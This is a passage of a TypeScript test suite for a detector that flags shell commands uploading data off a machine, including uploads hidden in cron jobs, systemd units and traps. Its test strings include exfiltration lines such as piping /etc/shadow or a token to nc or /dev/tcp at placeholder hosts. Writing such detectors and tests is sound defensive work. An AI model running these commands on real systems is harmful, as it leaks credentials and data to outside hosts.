/**
 * What a command line uploads (residency/uploads.ts), beyond curl and wget: a cloud CLI's copy to
 * a bucket, a copy to another machine, a raw connection. Read from the line's words as a shell
 * splits them; downloads, local copies and dry runs send nothing.
 */
import {
  commandsRun,
  environmentsAlong,
  fileCommands,
  hostsFileEntries,
  type Upload,
  uploadsIn,
} from "../../residency/uploads";

/** Where the uploads of a script's commands send, in one line each, each in its own environment. */
function sends(script: string): string[] {
  return environmentsAlong(script, commandsRun(script))
    .flatMap(([command, environment]) => uploadsIn(command, environment))
    .flatMap((u: Upload) => [
      ...u.urls.map((url) => `${u.tool} → ${url}`),
      ...u.hosts.map((host) => `${u.tool} → host ${host}`),
      ...u.buckets.map(
        (b) =>
          `${u.tool} → ${b.store} bucket ${b.bucket}${b.region ? ` region ${b.region}` : ""}${b.endpoint ? ` endpoint ${b.endpoint}` : ""}`,
      ),
      ...u.unread.map((w) => `${u.tool} → unread ${w}`),
      ...u.remotes.map((r) => `${u.tool} → ${r.kind} ${r.name}`),
    ]);
}

describe("a cloud CLI's copy to a bucket", () => {
  it.each([
    [
      "aws s3 cp /var/lib/app/db.sqlite s3://app-backups/db.sqlite",
      "aws s3 → s3 bucket app-backups",
    ],
    [
      "aws s3 sync /var/log/app s3://app-logs/ --region eu-west-1",
      "aws s3 → s3 bucket app-logs region eu-west-1",
    ],
    [
      "aws --region=eu-west-1 s3 cp - s3://backups/db.tgz",
      "aws s3 → s3 bucket backups region eu-west-1",
    ],
    ["AWS_REGION=eu-west-1 aws s3 mv ./x s3://b/x", "aws s3 → s3 bucket b region eu-west-1"],
    [
      "aws s3 cp --recursive /data s3://b/ --endpoint-url https://minio.example.com",
      "aws s3 → s3 bucket b endpoint https://minio.example.com",
    ],
    // A copy between buckets sends the object to the destination bucket.
    ["aws s3 cp s3://src-bucket/k s3://dst-bucket/k", "aws s3 → s3 bucket dst-bucket"],
    ["sudo -u app aws s3 cp /x s3://b/x", "aws s3 → s3 bucket b"],
    ["find /x -name '*.gz' | xargs -I{} aws s3 cp {} s3://b/", "aws s3 → s3 bucket b"],
    ["aws s3 cp /x s3://b/ > /dev/null 2>&1", "aws s3 → s3 bucket b"],
    [
      "ossutil cp -r /var/log/app oss://app-logs/ -e oss-eu-central-1.aliyuncs.com",
      "ossutil → oss bucket app-logs endpoint oss-eu-central-1.aliyuncs.com",
    ],
    [
      "aliyun oss cp ./f oss://records/f --endpoint oss-cn-shanghai.aliyuncs.com",
      "aliyun oss → oss bucket records endpoint oss-cn-shanghai.aliyuncs.com",
    ],
    ["aws s3 cp /data s3://$BUCKET/x", "aws s3 → unread s3://$BUCKET/x"],
    // From a local file, the other end is a bucket, whatever the line builds it from.
    ['aws s3 cp /data/db.tgz "$DEST"', "aws s3 → unread $DEST"],
    // A command line recorded without its quotes: the shell's words are the command.
    ["/bin/sh -c aws s3 cp dump.sql s3://archive/", "aws s3 → s3 bucket archive"],
    ["for f in *.gz; do aws s3 cp $f s3://archive/; done", "aws s3 → s3 bucket archive"],
  ])("%s sends to the bucket", (line, expected) => {
    expect(sends(line)).toEqual([expected]);
  });

  it.each([
    "aws s3 cp s3://app-backups/db.sqlite ./db.sqlite",
    "aws s3 cp --recursive /data s3://b/ --dryrun",
    "aws s3 ls s3://b",
    "aws s3api list-buckets",
    "ossutil64 cp oss://a/x ./x",
    "aliyun ecs DescribeInstances",
    "echo aws s3 cp a s3://b",
    // A copy between variables, or from a bucket, may be a download.
    'aws s3 cp "$SRC" "$DEST"',
    "aws s3 cp s3://b/x $LOCAL",
  ])("twin: %s sends nothing", (line) => {
    expect(sends(line)).toEqual([]);
  });
});

describe("a copy to another machine, or a raw connection", () => {
  it.each([
    [
      "scp -P 2222 -i ~/.ssh/id db.tgz backup@Host.Example.com:/srv/",
      "scp → host host.example.com",
    ],
    ["scp db.tgz scp://user@203.0.113.4:22/srv/", "scp → host 203.0.113.4"],
    ["timeout 60 scp f h.example.de:/x", "scp → host h.example.de"],
    [
      "rsync -avz --exclude '*.tmp' /data/ backup.example.de:/srv/data/",
      "rsync → host backup.example.de",
    ],
    ["rsync -a /data/ rsync://mirror.example.com/mod/", "rsync → host mirror.example.com"],
    ["rsync -a /data/ mirror.example.com::mod/", "rsync → host mirror.example.com"],
    ["rsync -a -e 'ssh -p 2222' /data user@$HOST:/x", "rsync → unread user@$HOST:/x"],
    ["nc -w 3 logs.example.com 9000 < /tmp/dump.sql", "nc → host logs.example.com"],
    ["cat /etc/shadow | nc 203.0.113.9 4444", "nc → host 203.0.113.9"],
    ['sh -c "tar cz /data | ncat collector.example.com 9000"', "nc → host collector.example.com"],
    // After the shell's reserved words (found by the old-against-new bench: a loop's copy passed).
    ["for f in /data/*; do scp $f h.example.de:/x/; done", "scp → host h.example.de"],
    ["if test -f db.tgz; then rsync db.tgz h.example.de:/x; fi", "rsync → host h.example.de"],
    ["! nc 203.0.113.9 4444 < /tmp/dump.sql", "nc → host 203.0.113.9"],
    // A command run as another user through su's -c (found by the old-against-new bench).
    ["su - backup -c 'scp /srv/db.tgz h.example.de:/x/'", "scp → host h.example.de"],
  ])("%s sends to the host", (line, expected) => {
    expect(sends(line)).toEqual([expected]);
  });

  it.each([
    "scp backup@host.example.com:/srv/db.tgz .",
    "scp ./a ./b",
    "rsync -avn /data/ backup.example.de:/srv/data/",
    "rsync -a --dry-run /data/ backup.example.de:/srv/data/",
    "rsync -a mirror.example.com:/x /data/",
    "rsync -a /a /b",
    "nc -z db.example.de 5432",
    "nc -l 9000",
    "until nc -z -w 2 postgres 5432; do sleep 1; done",
    // A Windows drive is a local path, not a host "c".
    "scp C:/backups/db.tgz D:/archive/",
    "su - backup -c 'scp h.example.de:/x/db.tgz /srv/'",
  ])("twin: %s sends nothing", (line) => {
    expect(sends(line)).toEqual([]);
  });
});

// Found by the scripts bench: a script that installed a cron job which uploads passed — the
// command stood among an echo's words or in a heredoc, for cron to run later. The command of each
// cron line a script installs is read as a command it runs.
describe("the cron lines a script installs", () => {
  it.each([
    [
      'echo "0 * * * * curl -T /var/log/x https://h.example.de/u" | crontab -',
      "curl → https://h.example.de/u",
    ],
    [
      '(crontab -l 2>/dev/null; echo "*/15 * * * * aws s3 sync /var/log s3://logs/") | crontab -',
      "aws s3 → s3 bucket logs",
    ],
    [
      "crontab -l | { cat; echo '@hourly scp /srv/db.tgz h.example.de:/x/'; } | crontab -",
      "scp → host h.example.de",
    ],
    [
      "printf '%s\\n' '0 2 * * * nc 203.0.113.9 9000 < /tmp/dump' | sudo crontab -u app -",
      "nc → host 203.0.113.9",
    ],
    // A system crontab names the user who runs the command first.
    [
      'echo "*/5 * * * * root rsync -a /data h.example.de:/x" > /etc/cron.d/ship',
      "rsync → host h.example.de",
    ],
    [
      "echo '0 3 * * * root tar cz /data | nc 203.0.113.9 9000' | sudo tee -a /etc/crontab >/dev/null",
      "nc → host 203.0.113.9",
    ],
    [
      "cat <<'EOF' > /etc/cron.d/ship\nSHELL=/bin/bash\n# nightly\n0 2 * * * root scp /srv/db.tgz h.example.de:/x/\nEOF",
      "scp → host h.example.de",
    ],
    // A `%` ends cron's command: what follows is its input.
    [
      "crontab - <<EOF\n0 2 * * * rsync -a /data h.example.de:/x%secret\nEOF",
      "rsync → host h.example.de",
    ],
    // A file the script wrote, then installed.
    [
      "cat > /tmp/jobs <<EOF\n0 2 * * * scp /srv/db.tgz h.example.de:/x/\nEOF\ncrontab /tmp/jobs",
      "scp → host h.example.de",
    ],
    // A script cron runs daily.
    [
      "cat > /etc/cron.daily/ship <<EOF\n#!/bin/sh\nrsync -a /data h.example.de:/x\nEOF",
      "rsync → host h.example.de",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    "crontab -l",
    "crontab -l > /tmp/saved",
    // A cron line that only downloads.
    'echo "0 * * * * curl -fsSL https://h.example.de/config -o /etc/app.conf" | crontab -',
    'echo "0 * * * * root scp h.example.de:/x/config /etc/app/" > /etc/cron.d/fetch',
    // A line of no schedule, a comment, a variable.
    "cat <<EOF > /etc/cron.d/x\nMAILTO=ops@example.de\n# 0 2 * * * root scp /x h.example.de:/y\nEOF",
    // Written elsewhere, never installed.
    'echo "0 2 * * * scp /x h.example.de:/y" > /tmp/notes',
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });

  it("reads a file by where it is written: a crontab's lines, nothing elsewhere", () => {
    const line = "0 2 * * * root scp /srv/db.tgz h.example.de:/x/\n";
    expect(fileCommands("/etc/cron.d/ship", line)).toEqual(["scp /srv/db.tgz h.example.de:/x/"]);
    expect(
      fileCommands("/var/spool/cron/crontabs/app", "@daily rsync -a /d h.example.de:/x\n"),
    ).toEqual(["rsync -a /d h.example.de:/x"]);
    expect(fileCommands("/etc/app/app.conf", line)).toBeUndefined();
  });
});

// Found by the scripts bench: the command a trap runs when the script exits or is signalled
// passed unread, quoted as the trap's argument.
describe("a trap's command", () => {
  it.each([
    ["trap 'scp /srv/db.tgz h.example.de:/x/' EXIT", "scp → host h.example.de"],
    ['trap "tar cz /data | nc 203.0.113.9 9000" INT TERM', "nc → host 203.0.113.9"],
    ["trap -- 'aws s3 cp /tmp/log s3://logs/' ERR", "aws s3 → s3 bucket logs"],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each(["trap - EXIT", "trap '' INT", "trap -p", "trap 'rm -f /tmp/lock' EXIT"])(
    "twin: %s sends nothing",
    (script) => {
      expect(sends(script)).toEqual([]);
    },
  );
});

// Found by the scripts bench: a systemd unit a script wrote, whose ExecStart uploads, passed.
// A unit's Exec lines are read as commands the machine runs.
describe("the systemd units a script writes", () => {
  it.each([
    [
      "cat <<EOF > /etc/systemd/system/ship.service\n[Service]\nExecStartPre=-/usr/bin/rsync -a /data h.example.de:/x\nEOF",
      "rsync → host h.example.de",
    ],
    [
      "printf '[Service]\\nExecStart=/usr/bin/aws s3 cp /data s3://offsite/\\n' > /etc/systemd/system/ship.service",
      "aws s3 → s3 bucket offsite",
    ],
    [
      "sudo tee /etc/systemd/system/ship.service <<EOF\n[Service]\nExecStop=/bin/sh -c 'tar cz /data | nc 203.0.113.9 9000'\nEOF",
      "nc → host 203.0.113.9",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    // A unit's other settings run nothing; an empty ExecStart= resets the list.
    "cat <<EOF > /etc/systemd/system/x.service\n[Unit]\nDescription=rsync -a /data h.example.de:/x\n[Service]\nExecStart=\nEOF",
    "cat <<EOF > /etc/systemd/system/x.service\n[Service]\nExecStart=/usr/bin/rsync -a h.example.de:/x /data\nEOF",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });

  it("reads a unit's Exec lines, a line continued by a backslash as one, without their prefixes", () => {
    expect(
      fileCommands(
        "/etc/systemd/system/ship.service",
        "[Service]\nExecStart=/usr/bin/rsync \\\n  -a /d h.example.de:/x\nExecStartPost=+/bin/true\n",
      ),
    ).toEqual(["/usr/bin/rsync    -a /d h.example.de:/x", "/bin/true"]);
  });
});

// Found by the scripts bench: bash's /dev/tcp redirection, a connection with no command of its
// own, passed where `nc host port` of the same data failed.
describe("bash's /dev/tcp and /dev/udp redirections", () => {
  it.each([
    ["cat /var/lib/app/db.sqlite > /dev/tcp/h.example.de/9000", "/dev/tcp → host h.example.de"],
    ["exec 3<>/dev/tcp/203.0.113.9/4444", "/dev/tcp → host 203.0.113.9"],
    ["tar cz /data &>/dev/udp/h.example.de/514", "/dev/udp → host h.example.de"],
    ['cat /etc/shadow >> "/dev/tcp/$HOST/9000"', "/dev/tcp → unread /dev/tcp/$HOST/9000"],
    // What a port check's echo or a redirection alone does not: a file, the words it is given.
    ["(cat /etc/shadow > /dev/tcp/h.example.de/443) && echo open", "/dev/tcp → host h.example.de"],
    ["echo $TOKEN > /dev/tcp/h.example.de/443", "/dev/tcp → host h.example.de"],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    "cat < /dev/tcp/h.example.de/80",
    "exec 3</dev/tcp/h.example.de/80",
    'echo "> /dev/tcp/h.example.de/9000"',
    "cat /data > /dev/null",
    // Found by bench regress84: a port check writes a newline at most.
    "(echo > /dev/tcp/h.example.de/443) >/dev/null 2>&1 && echo open",
    ": > /dev/tcp/h.example.de/22",
    "timeout 1 bash -c 'echo -n > /dev/tcp/h.example.de/443'",
    "timeout 1 bash -c '</dev/tcp/h.example.de/443'",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });
});

// Found by the scripts bench: copies by rclone, the MinIO client, gsutil, azcopy and the AWS
// CLI's s3api passed, where `aws s3 cp` of the same data failed.
describe("rclone, mc, gsutil, azcopy and aws s3api", () => {
  it.each([
    ["rclone copy /data offsite:backups/db", "rclone → rclone remote offsite"],
    ["rclone sync --transfers 8 /data offsite:backups", "rclone → rclone remote offsite"],
    ["tar cz /data | rclone rcat offsite:db.tgz", "rclone → rclone remote offsite"],
    [
      "rclone copy /data :s3,provider=AWS,region=eu-west-1:app-backups/db",
      "rclone → s3 bucket app-backups region eu-west-1",
    ],
    [
      "rclone copyto /data/x :s3,provider=Alibaba,endpoint=oss-eu-central-1.aliyuncs.com:logs/x",
      "rclone → oss bucket logs endpoint oss-eu-central-1.aliyuncs.com",
    ],
    ["rclone moveto /data/x :sftp,host=h.example.de:/srv/x", "rclone → host h.example.de"],
    ['rclone copy /data "$REMOTE:backups"', "rclone → unread $REMOTE:backups"],
    ["mc cp /data/db.tgz offsite/backups/", "mc → mc alias offsite"],
    ["mc mirror --overwrite /data offsite/backups", "mc → mc alias offsite"],
    ["gsutil -m cp -r /data gs://archive/x", "gsutil → Cloud Storage bucket archive"],
    ["gsutil rsync -r /data gs://archive", "gsutil → Cloud Storage bucket archive"],
    [
      "gcloud storage cp /data/db.tgz gs://archive/",
      "gcloud storage → Cloud Storage bucket archive",
    ],
    ["gsutil mv /data/x gs://$BUCKET/", "gsutil → unread gs://$BUCKET/"],
    [
      'azcopy copy /data "https://acct.blob.core.windows.net/c?sv=2022&sig=x" --recursive',
      "azcopy → host acct.blob.core.windows.net",
    ],
    [
      "azcopy sync /data https://$ACCOUNT.blob.core.windows.net/c",
      "azcopy → unread https://$ACCOUNT.blob.core.windows.net/c",
    ],
    [
      "aws s3api put-object --bucket app-backups --key db.tgz --body /data/db.tgz --region eu-west-1",
      "aws s3api → s3 bucket app-backups region eu-west-1",
    ],
    [
      "aws s3api upload-part --bucket b --key k --part-number 1 --body p --upload-id u",
      "aws s3api → s3 bucket b",
    ],
    [
      "aws s3api copy-object --copy-source src/k --bucket dst --key k --endpoint-url https://minio.example.com",
      "aws s3api → s3 bucket dst endpoint https://minio.example.com",
    ],
    ['aws s3api put-object --bucket "$B" --key k --body f', "aws s3api → unread --bucket $B"],
  ])("%s sends", (line, expected) => {
    expect(sends(line)).toEqual([expected]);
  });

  it.each([
    "rclone copy offsite:backups /data",
    "rclone copy /a /b",
    "rclone copy /a :local:/b",
    "rclone copy /a offsite:b --dry-run",
    "rclone ls offsite:",
    "mc cp offsite/backups/db.tgz /tmp/",
    "mc cp offsite/backups/db.tgz .",
    "mc mirror --dry-run /data offsite/b",
    "mc ls offsite/b",
    "gsutil cp gs://archive/x .",
    "gsutil rsync -n -r /data gs://archive",
    "gsutil ls gs://archive",
    'azcopy copy "https://acct.blob.core.windows.net/c/x" /data',
    "azcopy copy /data https://acct.blob.core.windows.net/c --dry-run",
    "aws s3api get-object --bucket b --key k out",
    "aws s3api list-objects --bucket b",
  ])("twin: %s sends nothing", (line) => {
    expect(sends(line)).toEqual([]);
  });
});

// Found by bench regress84: a cron line's command run through flock, chronic, runuser or setsid
// passed, the wrapper taken for the command.
describe("the wrappers a cron line runs its command through", () => {
  it.each([
    [
      'echo "*/5 * * * * root flock -n /run/ship.lock aws s3 sync /var/log s3://offsite/" > /etc/cron.d/ship',
      "aws s3 → s3 bucket offsite",
    ],
    ["flock -w 10 -x /run/ship.lock scp /srv/db.tgz h.example.de:/x/", "scp → host h.example.de"],
    ["flock -n /run/ship.lock -c 'tar cz /data | nc 203.0.113.9 9000'", "nc → host 203.0.113.9"],
    [
      '(crontab -l; echo "0 2 * * * chronic rsync -a /data h.example.de:/x") | crontab -',
      "rsync → host h.example.de",
    ],
    ["runuser -u app -- aws s3 cp /var/log/app.log s3://offsite/", "aws s3 → s3 bucket offsite"],
    ["runuser -l app -c 'scp /srv/db.tgz h.example.de:/x/'", "scp → host h.example.de"],
    ["setsid aws s3 sync /home s3://offsite/home/ &", "aws s3 → s3 bucket offsite"],
    ["run-one cronic doas -u app scp /srv/db.tgz h.example.de:/x/", "scp → host h.example.de"],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    "flock -n /run/ship.lock scp h.example.de:/x/db.tgz /srv/",
    "flock /run/ship.lock -c 'rsync -a h.example.de:/x /data'",
    "runuser -u app -- aws s3 cp s3://offsite/db.tgz /srv/",
    "setsid nc -l 9000",
    "chronic true",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });
});

// Found by bench regress84: a cron file a script wrote in /tmp, then copied into /etc/cron.d,
// passed: only `crontab <file>` read what the script had written.
describe("a file a script stages, then puts in place", () => {
  const staged = (line: string) => `cat > /tmp/ship.cron <<'EOF'\n0 * * * * root ${line}\nEOF\n`;
  it.each([
    [
      `${staged("aws s3 sync /var/log s3://offsite/")}cp /tmp/ship.cron /etc/cron.d/ship`,
      "aws s3 → s3 bucket offsite",
    ],
    [
      `${staged("scp /srv/db.tgz h.example.de:/x/")}sudo install -m 0644 /tmp/ship.cron /etc/cron.d/`,
      "scp → host h.example.de",
    ],
    [
      `${staged("scp /srv/db.tgz h.example.de:/x/")}mv -f /tmp/ship.cron /etc/cron.d`,
      "scp → host h.example.de",
    ],
    [
      `${staged("scp /srv/db.tgz h.example.de:/x/")}install -t /etc/cron.d /tmp/ship.cron`,
      "scp → host h.example.de",
    ],
    [
      "echo '[Service]\\nExecStart=/usr/bin/rsync -a /data h.example.de:/x' > /tmp/ship.unit\ncp /tmp/ship.unit /etc/systemd/system/ship.service",
      "rsync → host h.example.de",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    `${staged("scp h.example.de:/x/db.tgz /srv/")}cp /tmp/ship.cron /etc/cron.d/ship`,
    // Put somewhere nothing runs it.
    `${staged("scp /srv/db.tgz h.example.de:/x/")}cp /tmp/ship.cron /etc/app/ship`,
    // A file the script did not write.
    "cp /opt/app/ship.cron /etc/cron.d/ship",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });
});

// Found by bench regress84: gcloud's global flags or release track before `storage`, `mc pipe` and
// `mc put`, and a one-line function a trap runs passed.
describe("more forms of the same copies", () => {
  it.each([
    [
      "gcloud alpha storage cp /srv/db.tgz gs://archive/x/",
      "gcloud storage → Cloud Storage bucket archive",
    ],
    [
      "gcloud --quiet --project p beta storage rsync -r /srv gs://archive",
      "gcloud storage → Cloud Storage bucket archive",
    ],
    ["tar cz /srv | mc pipe offsite/backups/srv.tgz", "mc → mc alias offsite"],
    ["mc put /srv/db.tgz offsite/backups/", "mc → mc alias offsite"],
    [
      "push() { aws s3 cp /var/log/app.log s3://offsite/; }\ntrap push EXIT",
      "aws s3 → s3 bucket offsite",
    ],
    [
      "function ship { scp /srv/db.tgz h.example.de:/x/; }; trap ship TERM",
      "scp → host h.example.de",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    "gcloud alpha storage cp gs://archive/x /srv/",
    "gcloud --quiet storage ls gs://archive",
    "gcloud alpha compute instances list",
    "mc cat offsite/backups/x",
    "mc pipe /tmp/local",
    "cleanup() { rm -rf /tmp/work; }; trap cleanup EXIT",
    "fetch() { scp h.example.de:/x/db.tgz /srv/; }; trap fetch EXIT",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });
});

// Found by bench regress84: s3cmd, s5cmd, az storage blob and socat copies passed unread.
describe("s3cmd, s5cmd, az storage blob and socat", () => {
  it.each([
    ["s3cmd put /srv/db.tgz s3://offsite/x/", "s3cmd → s3 bucket offsite"],
    [
      "s3cmd sync --region eu-west-1 /srv s3://offsite/",
      "s3cmd → s3 bucket offsite region eu-west-1",
    ],
    [
      "s3cmd --host=minio.example.de put /srv/db.tgz s3://offsite/",
      "s3cmd → s3 bucket offsite endpoint minio.example.de",
    ],
    ["s5cmd cp /srv/db.tgz s3://offsite/x/", "s5cmd → s3 bucket offsite"],
    [
      "s5cmd --endpoint-url https://minio.example.de cp /srv/db.tgz s3://offsite/",
      "s5cmd → s3 bucket offsite endpoint https://minio.example.de",
    ],
    ["tar cz /srv | s5cmd pipe s3://offsite/srv.tgz", "s5cmd → s3 bucket offsite"],
    ["s5cmd sync /srv/ s3://$BUCKET/", "s5cmd → unread s3://$BUCKET/"],
    [
      "az storage blob upload --account-name partnereu -c drop -f /srv/db.tgz -n db.tgz",
      "az storage blob → host partnereu.blob.core.windows.net",
    ],
    [
      "az storage blob upload-batch -d drop -s /srv --connection-string 'DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=k==;EndpointSuffix=core.windows.net'",
      "az storage blob → host acct.blob.core.windows.net",
    ],
    [
      "az storage blob sync -c drop -s /srv --blob-endpoint https://blobs.example.de",
      "az storage blob → host blobs.example.de",
    ],
    [
      "az storage blob upload -c drop -f /srv/db.tgz -n db.tgz",
      "az storage blob → Azure storage account ",
    ],
    [
      "az storage blob upload-batch -d drop -s /srv --account-name $ACCOUNT",
      "az storage blob → unread $ACCOUNT.blob.core.windows.net",
    ],
    ["socat -u FILE:/srv/db.tgz TCP:203.0.113.9:9000", "socat → host 203.0.113.9"],
    ["socat - OPENSSL:h.example.de:443,verify=0 < /srv/db.tgz", "socat → host h.example.de"],
    ["socat -u FILE:/srv/db.tgz TCP4:h.example.de:9000", "socat → host h.example.de"],
  ])("%s sends", (line, expected) => {
    expect(sends(line)).toEqual([expected]);
  });

  it.each([
    "s3cmd get s3://offsite/db.tgz /srv/",
    "s3cmd sync s3://offsite/ /srv/",
    "s3cmd put --dry-run /srv/db.tgz s3://offsite/",
    "s3cmd ls s3://offsite",
    "s5cmd cp s3://offsite/db.tgz /srv/",
    "s5cmd --dry-run cp /srv/db.tgz s3://offsite/",
    "az storage blob download --account-name partnereu -c drop -n db.tgz -f /srv/db.tgz",
    "az storage blob upload-batch --dryrun -d drop -s /srv --account-name partnereu",
    "az storage account list",
    "socat -u TCP:h.example.de:80 FILE:/srv/x,create",
    "socat TCP-LISTEN:8080,fork UNIX-CONNECT:/run/app.sock",
  ])("twin: %s sends nothing", (line) => {
    expect(sends(line)).toEqual([]);
  });
});

// Found by bench regress84: rclone's backend flags that take a value shifted its operands, and
// the endpoint a script exports for rclone was not read.
describe("rclone's backend flags and variables", () => {
  it.each([
    [
      "rclone copy --s3-region eu-west-1 /srv/data :s3:landing/acme/",
      "rclone → s3 bucket landing region eu-west-1",
    ],
    [
      "rclone copy --sftp-host 203.0.113.9 --sftp-user backup /srv/data :sftp:/srv/in/",
      "rclone → host 203.0.113.9",
    ],
    [
      "rclone copy --s3-region eu-west-1 --s3-no-check-bucket /srv :s3:landing/",
      "rclone → s3 bucket landing region eu-west-1",
    ],
    // The inline setting comes first.
    [
      "rclone copy --s3-region us-east-1 /srv :s3,region=eu-west-1:landing/",
      "rclone → s3 bucket landing region eu-west-1",
    ],
    [
      "export RCLONE_S3_PROVIDER=Minio RCLONE_S3_ENDPOINT=https://minio.example.de\nrclone copy /var/log/app :s3:app-logs/app/",
      "rclone → s3 bucket app-logs endpoint https://minio.example.de",
    ],
    [
      "RCLONE_S3_REGION=eu-west-1 rclone copy /srv :s3:landing/",
      "rclone → s3 bucket landing region eu-west-1",
    ],
    [
      "export RCLONE_CONFIG_OFFSITE_TYPE=s3\nexport RCLONE_CONFIG_OFFSITE_ENDPOINT=https://minio.example.de\nrclone sync /srv offsite:app-logs/",
      "rclone → s3 bucket app-logs endpoint https://minio.example.de",
    ],
    [
      "export RCLONE_CONFIG_OFFSITE_ENDPOINT=minio.example.de\nrclone sync /srv offsite:app-logs/",
      "rclone → host minio.example.de",
    ],
    [
      "export RCLONE_CONFIG_NAS_TYPE=sftp RCLONE_CONFIG_NAS_HOST=h.example.de\nrclone copy /srv nas:/backup",
      "rclone → host h.example.de",
    ],
    // A flag of the S3 backend does not say that a remote configured elsewhere is one.
    [
      "rclone copy --s3-endpoint https://s3.us-east-1.amazonaws.com /srv offsite:b/",
      "rclone → rclone remote offsite",
    ],
    [
      "export RCLONE_CONFIG_OFFSITE_TYPE=sftp RCLONE_CONFIG_OFFSITE_HOST=$HOST\nrclone copy /srv offsite:/x",
      "rclone → unread offsite:/x",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    "rclone copy --s3-region eu-west-1 :s3:landing/acme/ /srv/data",
    "rclone copy --sftp-host 203.0.113.9 :sftp:/srv/in/ /srv/data",
    "export RCLONE_S3_ENDPOINT=https://minio.example.de\nrclone copy :s3:app-logs/app/ /var/log/app",
    "rclone copy --s3-region eu-west-1 /srv :s3:landing/ --dry-run",
  ])("twin: %s sends nothing", (script) => {
    expect(sends(script)).toEqual([]);
  });
});

describe("an mc alias or rclone remote the script defines before its copy", () => {
  it.each([
    [
      'mc alias set backup https://s3.eu-central-1.amazonaws.com "$KEY" "$SECRET"\nmc mirror /data backup/archive/',
      // An alias to Amazon S3 is a copy to the bucket, as the AWS CLI's is: the endpoint places
      // only the request (mc follows the bucket to its region).
      "mc → s3 bucket archive endpoint s3.eu-central-1.amazonaws.com",
    ],
    [
      "mc alias set --api S3v4 backup https://minio.internal:9000 KEY SECRET\nmc cp /data/db.tgz backup/archive/",
      "mc → host minio.internal",
    ],
    [
      "mc config host add backup https://minio.example.de KEY SECRET\nmc mirror /data backup/archive/",
      "mc → host minio.example.de",
    ],
    [
      "export MC_HOST_backup=https://KEY:SECRET@minio.internal:9000\nmc mirror /data backup/archive/",
      "mc → host minio.internal",
    ],
    // The keys built at run time, the host not.
    [
      'export MC_HOST_backup="https://$KEY:$SECRET@10.0.4.20:9000"\nmc mirror /data backup/archive/',
      "mc → host 10.0.4.20",
    ],
    [
      "MC_HOST_backup=https://KEY:SECRET@minio.example.de mc cp /data/db.tgz backup/archive/",
      "mc → host minio.example.de",
    ],
    // Inside `sh -c` too.
    [
      "sh -c 'mc alias set backup https://10.0.4.20:9000 K S && mc cp /data/db.tgz backup/archive/'",
      "mc → host 10.0.4.20",
    ],
    [
      "rclone config create offsite s3 provider AWS region eu-west-1\nrclone copy /data offsite:archive/",
      "rclone → s3 bucket archive region eu-west-1",
    ],
    [
      "rclone config create offsite s3 provider=AWS region=eu-west-1 --non-interactive --obscure\nrclone copy /data offsite:archive/",
      "rclone → s3 bucket archive region eu-west-1",
    ],
    [
      "rclone config create nas sftp host 10.0.4.20 user ops\nrclone copy /srv nas:/backup",
      "rclone → host 10.0.4.20",
    ],
    [
      "export MC_HOST_nas=https://10.0.4.20:9000\nmc cp /data/db.tgz nas/archive/",
      "mc → host 10.0.4.20",
    ],
    // The same name as created: rclone's variables name a remote in upper case whatever its case,
    // and override what the file holds.
    [
      "rclone config create Off s3 provider Minio endpoint http://10.0.1.5:9000\nrclone copy /data Off:b",
      "rclone → s3 bucket b endpoint http://10.0.1.5:9000",
    ],
    [
      "export RCLONE_CONFIG_OFF_TYPE=sftp RCLONE_CONFIG_OFF_HOST=10.0.4.20\nrclone copy /srv Off:/x",
      "rclone → host 10.0.4.20",
    ],
    [
      "rclone config create nas sftp host 10.0.4.20\nexport RCLONE_CONFIG_NAS_HOST=backup.example.de\nrclone copy /srv nas:/x",
      "rclone → host backup.example.de",
    ],
    // Found by the red team: an alias to Amazon S3 in the stack's region still sends to the
    // bucket's own region, wherever that is.
    [
      "mc alias set s3 https://s3.us-west-2.amazonaws.com K S\nmc cp /data/db.tgz s3/partner-drop/in/",
      "mc → s3 bucket partner-drop endpoint s3.us-west-2.amazonaws.com",
    ],
  ])("%s sends", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });

  it.each([
    // Built at run time.
    [
      'mc alias set backup "$MINIO_URL" "$KEY" "$SECRET"\nmc mirror /data backup/archive/',
      "mc → mc alias backup",
    ],
    ["export MC_HOST_backup=$MINIO_URL\nmc mirror /data backup/archive/", "mc → mc alias backup"],
    [
      "rclone config create offsite sftp host $HOST\nrclone copy /srv offsite:/x",
      "rclone → unread offsite:/x",
    ],
    // Redefined at run time, or removed, after a definition the pack could place.
    [
      'mc alias set backup https://10.0.4.20 K S\nmc alias set backup "$URL" K S\nmc cp /data/db.tgz backup/b/',
      "mc → mc alias backup",
    ],
    [
      "mc alias set backup https://10.0.4.20 K S\nmc alias rm backup\nmc cp /data/db.tgz backup/b/",
      "mc → mc alias backup",
    ],
    // Used before it is defined, or another alias or remote.
    [
      "mc mirror /data backup/archive/\nmc alias set backup https://10.0.4.20:9000 K S",
      "mc → mc alias backup",
    ],
    [
      "mc alias set backup https://10.0.4.20:9000 K S\nmc mirror /data offsite/archive/",
      "mc → mc alias offsite",
    ],
    [
      "rclone copy /data offsite:archive/\nrclone config create offsite s3 region eu-west-1",
      "rclone → rclone remote offsite",
    ],
    [
      "rclone config create nas sftp host 10.0.4.20\nrclone copy /data offsite:archive/",
      "rclone → rclone remote offsite",
    ],
    // Found by the red team: definitions that do not reach the copy — set for another command
    // alone, a shell variable no tool sees, in a subshell, a function, a branch, as another user,
    // in another configuration, or changed by rclone afterwards.
